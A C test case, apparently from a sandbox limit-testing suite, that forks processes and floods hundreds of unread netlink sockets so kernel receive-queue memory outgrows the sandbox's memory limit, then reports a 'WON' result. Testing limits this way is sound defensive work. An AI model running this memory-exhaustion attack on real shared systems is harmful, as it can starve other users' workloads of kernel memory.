/* SPDX-License-Identifier: MIT */
/*
 * wins: kernel memory in the receive queues of netlink sockets that nobody reads: 200 KiB each, charged to nobody
 * rule: 4, 11 (NOFILE times processes is what bounds it)
 * expect: ok|memory_limit|signal
 * open: netlink-buffers-over-the-limit
 * limits: memory_bytes=67108864 processes=12 wall_ms=15000 cpu_ms=15000
 * control: unsafe: takes the machine's memory
 */
#include "attack.h"

#include <linux/rtnetlink.h>

static long queued(void)
{
	FILE *f = fopen("/proc/net/netlink", "r");
	char line[256];
	long total = 0, rmem;
	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%*s %*s %*s %*s %ld", &rmem) == 1) total += rmem;
	if (f) fclose(f);
	return total;
}

int main(void)
{
	struct {
		struct nlmsghdr h;
		struct ifinfomsg i;
	} q = {.h = {.nlmsg_len = sizeof q, .nlmsg_type = RTM_GETLINK, .nlmsg_flags = NLM_F_REQUEST}, .i = {.ifi_index = 1}};
	/* 10 x 100 sockets: three times this run's memory, no more */
	for (int k = 0; k < 10; k++)
		if (fork() == 0) {
			for (int n = 0; n < 100; n++) {
				int s = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
				for (int i = 0; s >= 0 && i < 400; i++)
					if (send(s, &q, sizeof q, MSG_DONTWAIT) < 0) break;
			}
			for (;;) pause();
		}
	long most = 0;
	for (int i = 0; i < 60 * slow() && most <= 64L << 20; i++) {
		nap_ms(100);
		long now = queued();
		if (now > most) most = now;
	}
	say("queued %ld MiB", most >> 20);
	if (most > 64L << 20) say("WON netlink-buffers-over-the-limit");
	return end();
}
